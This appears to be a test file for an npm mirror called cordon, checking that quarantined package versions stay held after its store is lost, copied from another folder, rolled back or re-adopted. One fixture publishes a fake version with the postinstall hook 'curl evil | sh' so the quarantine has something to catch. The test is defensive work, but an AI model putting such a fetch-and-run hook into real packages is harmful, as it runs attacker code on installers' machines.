import { test } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startTestMirror, testConfig, DAY, HOUR, visibleVersions, sqliteWriter } from '../helpers/mirror';
import { FakeUpstream } from '../helpers/fake-upstream';
import { dataPaths, DataFolderError, openDataFolder, openDatabase, readIdentity } from '../../storage';
import { adoptDataFolder } from '../../server/quarantine/adopt-store';
import { runProcess } from '../helpers/run-process';

const NOW = Date.parse('2026-11-20T12:00:00Z');
const CLI = join(__dirname, '..', '..', '..', 'bin', 'cordon.js');

const refusedWith = (code: string) => (err: unknown) => err instanceof DataFolderError && err.code === code;

/** A data folder a mirror has used: a released baseline, one held version, one quarantined. */
async function usedFolder(upstream: FakeUpstream): Promise<string> {
  const dataDir = mkdtempSync(join(tmpdir(), 'cordon-folder-'));
  upstream.publish('lib', '1.0.0', { time: NOW - 30 * DAY });
  upstream.publish('lib', '1.1.0', { time: NOW - 2 * HOUR, scripts: { postinstall: 'curl evil | sh' } });
  upstream.publish('lib', '1.2.0', { time: NOW - HOUR });
  const m = await startTestMirror({ now: NOW, upstream, dataDir });
  await fetch(`${m.mirror.url}lib`);
  await m.mirror.pipeline.drain();
  assert.equal((await m.mirror.runtime.store.versions.versionOf('lib', '1.1.0'))?.state, 'held');
  assert.equal((await fetch(`${m.mirror.url}lib/-/lib-1.0.0.tgz`)).status, 200);
  await m.stop(false);
  return dataDir;
}

const listing = (dir: string): string[] => readdirSync(dir).sort();

test('a new folder gets an identity that the store carries too', () => {
  const dir = mkdtempSync(join(tmpdir(), 'cordon-folder-'));
  try {
    const { db, identity } = openDataFolder(dir);
    assert.equal((db.prepare("SELECT value FROM meta WHERE key = 'data-id'").get() as { value: string }).value, identity.id);
    db.close();
    assert.deepEqual(readIdentity(dir), identity);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a deleted store never turns held code into baseline: the mirror refuses to start and creates nothing', async () => {
  const upstream = await new FakeUpstream().start();
  const dataDir = await usedFolder(upstream);
  try {
    for (const suffix of ['', '-wal', '-shm']) rmSync(dataPaths(dataDir).store + suffix, { force: true });
    const before = listing(dataDir);
    await assert.rejects(
      startTestMirror({ now: NOW + 10 * DAY, upstream, dataDir }),
      (err: unknown) => refusedWith('STORE_LOST')(err) && /cordon restore|cordon store init --adopt-existing/.test((err as Error).message),
    );
    assert.deepEqual(listing(dataDir), before, 'nothing was created');

    // The same without an identity file (a folder from before identities): its tarball storage gives it away.
    rmSync(dataPaths(dataDir).identity);
    assert.throws(() => openDataFolder(dataDir), refusedWith('STORE_LOST'));
    assert.equal(existsSync(dataPaths(dataDir).store), false);
  } finally {
    await upstream.stop();
    rmSync(dataDir, { recursive: true, force: true });
  }
});

test("another folder's store is refused", async () => {
  const upstream = await new FakeUpstream().start();
  const a = await usedFolder(upstream);
  const b = mkdtempSync(join(tmpdir(), 'cordon-folder-'));
  try {
    openDataFolder(b).db.close();
    copyFileSync(dataPaths(a).store, dataPaths(b).store);
    assert.throws(
      () => openDataFolder(b),
      (err: unknown) => refusedWith('STORE_FOREIGN')(err) && /belongs to data folder/.test((err as Error).message),
    );
  } finally {
    await upstream.stop();
    rmSync(a, { recursive: true, force: true });
    rmSync(b, { recursive: true, force: true });
  }
});

test('a store that went back in time (a lost write-ahead log) is refused, even though its own chain is intact', async () => {
  const upstream = await new FakeUpstream().start();
  const dataDir = await usedFolder(upstream);
  const snapshot = join(dataDir, 'snapshot.sqlite');
  try {
    // While the mirror runs, the main file alone is an earlier state: recent commits live in the WAL.
    const m = await startTestMirror({ now: NOW, upstream, dataDir });
    sqliteWriter(m.mirror.runtime.store).pragma('wal_checkpoint(TRUNCATE)');
    copyFileSync(dataPaths(dataDir).store, snapshot);
    upstream.publish('lib', '1.3.0', { time: NOW });
    upstream.publish('other', '1.0.0', { time: NOW - HOUR });
    await fetch(`${m.mirror.url}lib`);
    await fetch(`${m.mirror.url}other`);
    const head = (await m.mirror.runtime.store.audit.head())!;
    await m.stop(false);
    assert.deepEqual(readIdentity(dataDir)?.auditHead, head, 'the identity file follows the audit head');

    for (const suffix of ['-wal', '-shm']) rmSync(dataPaths(dataDir).store + suffix, { force: true });
    copyFileSync(snapshot, dataPaths(dataDir).store);
    await assert.rejects(
      startTestMirror({ now: NOW, upstream, dataDir }),
      (err: unknown) => refusedWith('STORE_ROLLED_BACK')(err) && new RegExp(`before the ${head.id} entries`).test((err as Error).message),
    );
  } finally {
    await upstream.stop();
    rmSync(dataDir, { recursive: true, force: true });
  }
});

test('a store from before identities is given one as it stands', () => {
  const dir = mkdtempSync(join(tmpdir(), 'cordon-folder-'));
  try {
    openDatabase(dataPaths(dir).store).close();
    mkdirSync(join(dataPaths(dir).verdaccio, 'lib'), { recursive: true });
    writeFileSync(join(dataPaths(dir).verdaccio, 'lib', 'package.json'), '{}');
    const { db, identity } = openDataFolder(dir);
    db.close();
    assert.equal(readIdentity(dir)?.id, identity.id);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('cordon store init --adopt-existing re-baselines on purpose, audited, and never releases what the earlier store held', async () => {
  const upstream = await new FakeUpstream().start();
  const dataDir = await usedFolder(upstream);
  const backup = join(dataDir, '..', `${join(dataDir).split('/').pop()}-backup.sqlite`);
  try {
    copyFileSync(dataPaths(dataDir).store, backup);
    for (const suffix of ['', '-wal', '-shm']) rmSync(dataPaths(dataDir).store + suffix, { force: true });
    const env = { PATH: process.env.PATH, CORDON_DATA_DIR: dataDir, CORDON_UPSTREAM: upstream.url, CORDON_CONFIG: '' };
    const plain = await runProcess(process.execPath, [CLI, 'store', 'init'], { cwd: dataDir, env });
    assert.equal(plain.code, 2);
    assert.match(plain.stderr, /--adopt-existing/);
    assert.equal(existsSync(dataPaths(dataDir).store), false, 'nothing happens without --adopt-existing');

    const adopt = await runProcess(process.execPath, [CLI, 'store', 'init', '--adopt-existing', '--previous-store', backup], {
      cwd: dataDir,
      env,
    });
    assert.equal(adopt.code, 0, adopt.stderr);
    assert.match(adopt.stdout, /Adopted 1 package\(s\)/);
    assert.match(adopt.stdout, /1 released, 1 quarantined, 1 held for review again, 0 blocked/);

    const m = await startTestMirror({ now: NOW + 10 * DAY, upstream, dataDir });
    try {
      const store = m.mirror.runtime.store;
      assert.equal((await store.versions.versionOf('lib', '1.1.0'))?.state, 'held');
      assert.match((await store.versions.versionOf('lib', '1.1.0'))!.reason, /where it was held/);
      const adopted = (await store.audit.ofPackage('(store)')).find((e) => e.cause === 'store-adopted');
      assert.deepEqual(adopted?.detail?.adoptedPackages, ['lib']);
      assert.equal(adopted?.detail?.previousStore, backup);
      await m.mirror.pipeline.drain();
      assert.deepEqual(
        await visibleVersions(`${m.mirror.url}lib`),
        ['1.0.0', '1.2.0'],
        'time released the clean one; the held one waits for a person',
      );
      assert.equal((await fetch(`${m.mirror.url}lib/-/lib-1.1.0.tgz`)).status, 403);
    } finally {
      await m.stop(false);
    }
  } finally {
    await upstream.stop();
    rmSync(dataDir, { recursive: true, force: true });
    rmSync(backup, { force: true });
  }
});

test('without the earlier store, adoption starts every stored package over and says so in the audit log', async () => {
  const upstream = await new FakeUpstream().start();
  const dataDir = await usedFolder(upstream);
  try {
    unlinkSync(dataPaths(dataDir).store);
    const report = await adoptDataFolder(testConfig(upstream, dataDir), { previousStore: null, at: NOW });
    assert.deepEqual(report.adoptedPackages, ['lib']);
    assert.equal(JSON.parse(readFileSync(dataPaths(dataDir).identity, 'utf8')).id, report.dataId);
    const { db } = openDataFolder(dataDir);
    db.close();
  } finally {
    await upstream.stop();
    rmSync(dataDir, { recursive: true, force: true });
  }
});
